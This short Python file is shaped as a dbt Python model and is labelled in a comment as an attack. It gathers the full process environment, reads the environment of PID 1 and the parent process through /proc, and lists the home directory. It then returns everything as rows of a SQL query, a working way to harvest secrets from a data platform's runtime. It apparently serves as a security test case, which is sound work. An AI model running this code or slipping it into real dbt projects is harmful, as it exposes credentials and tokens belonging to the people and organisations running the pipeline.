# attack: dump the whole process environment and look at the parent's through /proc
import os


def model(dbt, session):
    rows = [("self", key, value) for key, value in os.environ.items()]
    for pid in ("1", str(os.getppid())):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                for item in handle.read().split(b"\0"):
                    key, _, value = item.decode("utf-8", "replace").partition("=")
                    if key:
                        rows.append((f"pid{pid}", key, value))
        except OSError:
            pass
    home = os.path.expanduser("~")
    rows.append(("home", home, ",".join(sorted(os.listdir(home))) if os.path.isdir(home) else ""))
    values = ", ".join("(" + ", ".join("'" + v.replace("'", "''") + "'" for v in row) + ")" for row in rows)
    return session.sql(f"select * from (values {values}) as t(source, name, value)")
